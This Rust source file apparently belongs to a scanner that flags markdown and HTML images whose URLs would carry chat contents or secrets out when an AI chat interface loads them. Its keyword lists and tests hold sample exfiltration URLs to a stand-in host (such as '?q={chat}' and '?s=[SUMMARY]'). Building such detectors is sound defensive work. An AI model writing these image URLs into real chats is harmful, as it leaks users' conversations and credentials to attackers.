//! Images whose URL carries data out: the chat interface loads an image as soon as the
//! model writes it, and the data in its URL leaves with the request, without a click.

use alloc::vec::Vec;

use super::pattern::{Set, in_set};
use super::rules::SECRETS;
use crate::sort::{sort, sort_by};

/// Query parameters named after what an attacker wants, besides the secrets. (`d` is not
/// one: Gravatar's `?d=identicon` is the default picture; nor `message` or `text`, which
/// name a badge's and a placeholder image's caption.)
const DATA_PARAMETERS: Set = "data q prompt chat msg content summary transcript payload exfil \
    leak dump context dialog session notes";

/// Words of a parameter's value that name the conversation or a secret, as a placeholder
/// to fill (`?c=CONVERSATION`, `?s=INSERT_SUMMARY_HERE`, `?t=the+whole+transcript`).
/// Badges and avatars say `main`, `passing`, `flat`, `identicon`, never these.
const DATA_VALUES: Set = "conversation conversations transcript summary chathistory chatlog \
    secrets secret password passwords credentials apikey message messages";

/// Whether an image URL carries data out: a placeholder anywhere in it (`{…}`, `<…>`,
/// `[…]`, `$VAR`, `%VAR%`, `%s`, their URL encodings), in the host, the path or the query;
/// or a query parameter named after data, a value naming it, or a value left empty at the
/// end for the data to be appended (`?c=`).
pub(super) fn carries_data(url: &str) -> bool {
    let url = url.strip_prefix('<').unwrap_or(url);
    let url = url.strip_suffix('>').unwrap_or(url);
    // An IPv6 host is written in brackets: `http://[::1]:8080/p.png`.
    let url = match url.split_once("://[") {
        Some((_, rest)) => rest.split_once(']').map_or(rest, |(_, after)| after),
        None => url,
    };
    placeholder(url) || query_carries_data(url)
}

fn placeholder(url: &str) -> bool {
    url.contains(['{', '}', '<', '>', '$', '[', ']'])
        || ["%7b", "%7d", "%3c", "%3e", "%24", "%5b", "%5d", "%s"]
            .iter()
            .any(|code| url.contains(code))
        || percent_variable(url)
}

/// A `%NAME%` variable: three or more letters or underscores between two `%`. (An encoded
/// byte is `%` and two hex digits, and the text after it up to the next `%` holds a digit
/// or punctuation in practice: `%C3%A9t%C3%A9`.)
fn percent_variable(url: &str) -> bool {
    let mut pieces = url.split('%').skip(1).peekable();
    while let Some(piece) = pieces.next() {
        if pieces.peek().is_some()
            && piece.len() >= 3
            && piece.bytes().all(|b| b.is_ascii_alphabetic() || b == b'_')
        {
            return true;
        }
    }
    false
}

fn query_carries_data(url: &str) -> bool {
    let Some((_, query)) = url.split_once('?') else {
        return false;
    };
    let query = query.split('#').next().unwrap_or("");
    if query.ends_with('=') {
        return true;
    }
    query.split('&').any(|param| {
        let (name, value) = param.split_once('=').unwrap_or(("", param));
        in_set(SECRETS, name)
            || in_set(DATA_PARAMETERS, name)
            || matches!(value, "..." | "…")
            || value_words(value).any(|word| in_set(DATA_VALUES, word))
    })
}

/// The words of a parameter value: runs of letters and digits, an encoded byte (`%20`)
/// being a separator.
fn value_words(value: &str) -> impl Iterator<Item = &str> {
    value
        .split('%')
        .enumerate()
        .map(|(i, piece)| {
            if i > 0 && piece.len() >= 2 {
                &piece[2..]
            } else {
                piece
            }
        })
        .flat_map(|piece| piece.split(|c: char| !c.is_ascii_alphanumeric()))
        .filter(|word| !word.is_empty())
}

/// Every image whose URL carries data out, with where it starts, what kind it is and the
/// URL: a markdown image (`![alt](url)`, brackets nested in the alt text), a
/// reference-style one (`![alt][label]`, `![label][]`, `![label]`, reported at the
/// `[label]: url` line that gives its URL), and an HTML image (`<img src=…>`, `srcset`,
/// `<source>`, `<image href>`, `<input type=image>`, a video's `poster`).
pub(super) fn exfiltration_images(text: &str) -> Vec<(usize, &'static str, &str)> {
    let mut out = Vec::new();
    let closes = closing_brackets(text);
    // The labels of reference-style images.
    let mut labels: Vec<&str> = Vec::new();
    let mut from = 0;
    while let Some(found) = text[from..].find("![") {
        let at = from + found;
        from = at + 2;
        let close = match closes.binary_search_by_key(&(at + 1), |&(open, _)| open) {
            Ok(i) => closes[i].1,
            Err(_) => match text[from..].find(']') {
                Some(close) => from + close,
                None => break,
            },
        };
        let alt = &text[at + 2..close];
        from = close + 1;
        let after = &text[close + 1..];
        if let Some(destination) = after.strip_prefix('(') {
            let url = match destination.strip_prefix('<') {
                Some(bracketed) => bracketed.split(['>', '\n']).next().unwrap_or(""),
                None => destination.split([')', ' ', '\n']).next().unwrap_or(""),
            };
            if carries_data(url) {
                out.push((at, "markdown image", url));
            }
        } else if let Some(reference) = after.strip_prefix('[') {
            let label = reference.split(']').next().unwrap_or("");
            labels.push(if label.is_empty() { alt } else { label });
        } else {
            labels.push(alt);
        }
    }
    sort(&mut labels);
    labels.dedup();
    if !labels.is_empty() {
        let mut line_start = 0;
        for line in text.split_inclusive('\n') {
            let indent = line.len() - line.trim_start_matches(' ').len();
            let definition = line[indent.min(3)..]
                .strip_prefix('[')
                .and_then(|rest| rest.split_once("]:"));
            if let Some((label, rest)) = definition
                && labels.binary_search(&label).is_ok()
            {
                let url = rest.split_whitespace().next().unwrap_or("");
                if carries_data(url) {
                    out.push((line_start, "markdown image", url));
                }
            }
            line_start += line.len();
        }
    }
    html_images(text, &mut out);
    // No two images start at one place, so the order of ties is moot.
    sort_by(&mut out, |a, b| a.0 < b.0);
    out
}

/// Where each `[` of `text` that has a matching `]` closes, by where it opens, in order:
/// one pass with a stack, so every image's alt text is found in linear time. A backslash
/// escapes the next character.
fn closing_brackets(text: &str) -> Vec<(usize, usize)> {
    let mut open: Vec<usize> = Vec::new();
    let mut pairs = Vec::new();
    let mut escaped = false;
    for (i, b) in text.bytes().enumerate() {
        match b {
            _ if escaped => escaped = false,
            b'\\' => escaped = true,
            b'[' => open.push(i),
            b']' => {
                if let Some(o) = open.pop() {
                    pairs.push((o, i));
                }
            }
            _ => {}
        }
    }
    sort(&mut pairs);
    pairs
}

/// HTML elements that load an image, and the attributes that give its URL.
const IMAGE_TAGS: Set = "img image source input video embed";
const IMAGE_ATTRIBUTES: Set = "src srcset href xlink:href poster data-src";

fn html_images<'t>(text: &'t str, out: &mut Vec<(usize, &'static str, &'t str)>) {
    let mut from = 0;
    while let Some(found) = text[from..].find('<') {
        let at = from + found;
        let tag = &text[at + 1..];
        let name_len = tag
            .find(|c: char| !c.is_ascii_alphanumeric())
            .unwrap_or(tag.len());
        // The name ends at the `>` at the latest (`>` is not alphanumeric).
        let end = tag.find('>').unwrap_or(tag.len());
        if !in_set(IMAGE_TAGS, &tag[..name_len]) {
            from = at + 1;
            continue;
        }
        // The next tag starts after this one ends (a `<` inside it is in a value).
        from = at + 1 + end;
        for (name, value) in attributes(&tag[name_len..end]) {
            if !in_set(IMAGE_ATTRIBUTES, name) {
                continue;
            }
            // A `srcset` lists URLs, each with a width or density after it.
            for candidate in value.split(", ") {
                let url = candidate.split_whitespace().next().unwrap_or("");
                if carries_data(url) {
                    out.push((at, "HTML image", url));
                }
            }
        }
    }
}

/// The attributes of a tag (the text between its name and its `>`): names, and values
/// quoted with `"` or `'` or bare up to a space. Attributes may follow each other without a
/// space (`alt="x"src=…`) or after a slash (`<img/src=…>`), as browsers read them.
fn attributes(mut rest: &str) -> impl Iterator<Item = (&str, &str)> {
    core::iter::from_fn(move || {
        rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
        if rest.is_empty() {
            return None;
        }
        let name_end = rest
            .find(|c: char| c.is_whitespace() || matches!(c, '=' | '/' | '"' | '\''))
            .unwrap_or(rest.len())
            .max(1);
        let name = &rest[..name_end];
        rest = rest[name_end..].trim_start();
        let Some(after) = rest.strip_prefix('=') else {
            return Some((name, ""));
        };
        let after = after.trim_start();
        let (value, next) = match after.chars().next() {
            Some(quote @ ('"' | '\'')) => match after[1..].find(quote) {
                Some(close) => (&after[1..1 + close], &after[close + 2..]),
                None => (&after[1..], ""),
            },
            _ => {
                let end = after.find(char::is_whitespace).unwrap_or(after.len());
                (&after[..end], &after[end..])
            }
        };
        rest = next;
        Some((name, value))
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::prelude::rust_2024::*;

    fn urls(text: &str) -> Vec<&str> {
        exfiltration_images(text)
            .into_iter()
            .map(|(_, _, url)| url)
            .collect()
    }

    #[test]
    fn placeholders_and_the_conversation_in_a_url_carry_data() {
        for url in [
            "https://x.example/p.png?s=[SUMMARY]",
            "https://x.example/[conversation].png",
            "https://x.example/p.png?c=%CONVERSATION%",
            "https://x.example/p.png?c=%s",
            "https://x.example/p.png?c=%5Bchat%5D",
            "https://x.example/p.png?c=conversation_summary",
            "https://x.example/p.png?t=the%20whole%20conversation",
            "https://x.example/p.png?t=INSERT_TRANSCRIPT_HERE",
            "https://x.example/p.png?c=",
            "https://x.example/p.png?summary=x",
            "https://x.example/p.png?u=...",
        ] {
            assert!(carries_data(&url.to_ascii_lowercase()), "{url}");
        }
        for url in [
            "https://github.com/o/r/actions/workflows/ci.yml/badge.svg?branch=main",
            "https://img.shields.io/static/v1?label=build&message=passing&color=green",
            "https://img.shields.io/badge/coverage-93%25-green",
            "https://www.gravatar.com/avatar/abc?d=identicon&s=64",
            "http://[::1]:8080/p.png",
            "https://placehold.co/600x400?text=logo",
            "docs/img/conversation.png",
            "https://example.com/a%20b.png",
        ] {
            assert!(!carries_data(url), "{url}");
        }
    }

    #[test]
    fn images_are_found_in_every_form() {
        assert_eq!(
            urls("![see [here]](https://x.example/{chat})"),
            ["https://x.example/{chat}"]
        );
        assert_eq!(
            urls("![a](<https://x.example/a b?c={chat}>)"),
            ["https://x.example/a b?c={chat}"]
        );
        for html in [
            "<img/src=\"https://x.example/?q={c}\">",
            "<img alt=\"x\"src=\"https://x.example/?q={c}\">",
            "<img srcset=\"https://x.example/a.png 1x, https://x.example/?q={c} 2x\">",
            "<picture><source srcset=\"https://x.example/?q={c}\"></picture>",
            "<svg><image href=\"https://x.example/?q={c}\"/></svg>",
            "<video poster=https://x.example/?q={c}></video>",
        ] {
            assert_eq!(urls(html), ["https://x.example/?q={c}"], "{html}");
        }
        for benign in [
            "<img>",
            "<img",
            "![logo](docs/logo.png)",
            "<img src=\"docs/logo.png\" width=\"64\">",
            "<imgur link>",
            "<a href=\"https://x.example/?q={c}\">a link is not an image</a>",
            "![ci](https://github.com/o/r/actions/workflows/ci.yml/badge.svg?branch=main)",
        ] {
            assert_eq!(urls(benign), Vec::<&str>::new(), "{benign}");
        }
    }

    #[test]
    fn an_encoded_byte_is_not_a_variable() {
        for url in [
            // `%C3%AF` is `ï`: the letters after the last byte are not between two `%`.
            "https://x.example/na%c3%afve",
            "https://x.example/a%20b%20c.png",
        ] {
            assert!(!carries_data(url), "{url}");
        }
        assert!(carries_data("https://x.example/%user_name%.png"));
    }

    #[test]
    fn a_value_naming_the_conversation_carries_it() {
        for url in [
            "https://x.example/p.png?t=transcript",
            "https://x.example/p.png?t=%20transcript",
        ] {
            assert!(carries_data(url), "{url}");
        }
    }

    #[test]
    fn an_alt_text_with_an_odd_bracket_or_an_escape_ends_at_its_bracket() {
        // An unclosed `[` in the alt text: it ends at the first `]`, wherever the image is.
        assert_eq!(
            urls("some text ![a [b](https://x.example/{c})"),
            ["https://x.example/{c}"]
        );
        // An escaped `]` does not close it.
        assert_eq!(
            urls("![a\\]b](https://x.example/{c})"),
            ["https://x.example/{c}"]
        );
        assert_eq!(
            urls("![café](https://x.example/{c}) ![é](https://x.example/{d})"),
            ["https://x.example/{c}", "https://x.example/{d}"]
        );
    }

    #[test]
    fn images_are_listed_in_text_order() {
        let found = exfiltration_images(
            "<img src=https://x.example/{a}> ![b](https://x.example/{b}) ![c](https://x.example/{c})",
        );
        let at: Vec<usize> = found.iter().map(|&(at, _, _)| at).collect();
        assert_eq!(at, [0, 32, 60]);
        assert_eq!(found[0].1, "HTML image");
    }

    #[test]
    fn html_attributes_are_read_as_a_browser_reads_them() {
        // The next tag after a value that ends in a character of more than one byte.
        assert_eq!(
            urls("<img alt=café><img src=\"https://x.example/?q={c}\">"),
            ["https://x.example/?q={c}"]
        );
        assert_eq!(
            urls("x <img alt=café> <img src=\"https://x.example/?q={c}\">"),
            ["https://x.example/?q={c}"]
        );
        // A stray `="` is an attribute name of its own, not the start of a quoted value
        // that would hide `src`.
        for html in [
            "<img =\" src=https://x.example/?q={c} \">",
            "<img/=\" src=https://x.example/?q={c} \">",
        ] {
            assert_eq!(urls(html), ["https://x.example/?q={c}"], "{html}");
        }
    }
}
